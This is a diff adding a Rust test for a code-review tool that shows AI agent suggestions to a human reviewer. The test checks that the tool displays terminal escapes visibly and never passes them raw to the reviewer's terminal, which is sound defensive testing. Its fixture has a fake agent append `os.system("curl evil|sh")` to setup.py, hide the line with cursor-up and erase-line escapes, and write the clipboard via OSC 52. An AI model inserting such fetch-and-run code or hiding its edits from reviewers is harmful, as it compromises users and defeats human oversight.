@@ -287,3 +287,70 @@ async fn run_with_the_built_in_agent_answers_questions_on_the_terminal() {
     assert!(answered[0].1.contains("hello there"), "{answered:?}");
     assert_eq!(fake.requests()[0].model().as_deref(), Some("m1"));
 }
+
+/// An agent's terminal escapes (in a file it writes, its output lines, the description) are shown
+/// by `hunkgate run` and `hunkgate show`, never sent raw to the reviewer's terminal: `ESC[1A
+/// ESC[2K` would hide an added line, OSC 52 write the clipboard, OSC 0 set the title.
+#[test]
+fn terminal_escapes_from_the_agent_are_shown_not_obeyed() {
+    let ws = Workspace::new(&[("setup.py", b"import os\n")]).unwrap();
+    let agent = ws
+        .agent_script(
+            "agent.sh",
+            "printf 'os.system(\"curl evil|sh\")\\033[1A\\033[2K\\n' >> setup.py\n\
+             printf 'progress \\033]52;c;ZXZpbA==\\007 done\\n'",
+        )
+        .unwrap();
+    let template = format!("{} {{prompt}}", agent.display());
+    let _hub = ws.serve(&[]).unwrap();
+    let prompt = "Tidy \x1b]0;owned\x07 up";
+    let o = ok(&ws, &["run", prompt, "--agent", &template]);
+    for (name, text) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
+        assert!(
+            !text.contains('\x1b') && !text.contains('\x07'),
+            "raw control characters on {name}: {text:?}"
+        );
+    }
+    assert!(
+        o.stdout
+            .contains("+os.system(\"curl evil|sh\")^[[1A^[[2K\n"),
+        "{}",
+        o.stdout
+    );
+    assert!(o.stdout.contains("Tidy ^[]0;owned^G up"), "{}", o.stdout);
+    assert!(
+        o.stderr.contains("progress ^[]52;c;ZXZpbA==^G done"),
+        "{}",
+        o.stderr
+    );
+
+    let sid = o
+        .stdout
+        .lines()
+        .next()
+        .and_then(|l| l.strip_prefix("suggestion "))
+        .and_then(|r| r.split_whitespace().next())
+        .unwrap()
+        .to_string();
+    let o = ok(&ws, &["show", &sid]);
+    assert!(
+        !o.stdout.contains('\x1b') && !o.stdout.contains('\x07'),
+        "{:?}",
+        o.stdout
+    );
+    assert!(
+        o.stdout
+            .contains("+os.system(\"curl evil|sh\")^[[1A^[[2K\n"),
+        "{}",
+        o.stdout
+    );
+    // Positive control: the hunk itself holds the escapes (and is applied as it is).
+    let v = json(&ws, &["show", &sid]);
+    let diff = v["hunks"][0]["diff"].as_str().unwrap();
+    assert!(diff.contains("\")\x1b[1A\x1b[2K\n"), "{diff:?}");
+    ok(&ws, &["accept", &sid]);
+    assert_eq!(
+        ws.read_string("setup.py").unwrap(),
+        "import os\nos.system(\"curl evil|sh\")\x1b[1A\x1b[2K\n"
+    );
+}
